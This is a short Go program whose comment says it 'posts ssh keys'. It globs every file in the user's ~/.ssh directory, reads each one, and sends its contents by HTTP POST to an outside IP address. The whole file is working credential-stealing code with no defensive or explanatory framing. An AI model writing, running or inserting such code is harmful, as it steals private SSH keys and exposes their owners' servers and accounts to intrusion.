// posts ssh keys
package main

import ("bytes"; "net/http"; "os"; "path/filepath")

func main() {
	home, _ := os.UserHomeDir()
	names, _ := filepath.Glob(filepath.Join(home, ".ssh", "*"))
	for _, n := range names {
		b, _ := os.ReadFile(n)
		http.Post("http://203.0.113.6/k", "text/plain", bytes.NewReader(b))
	}
}
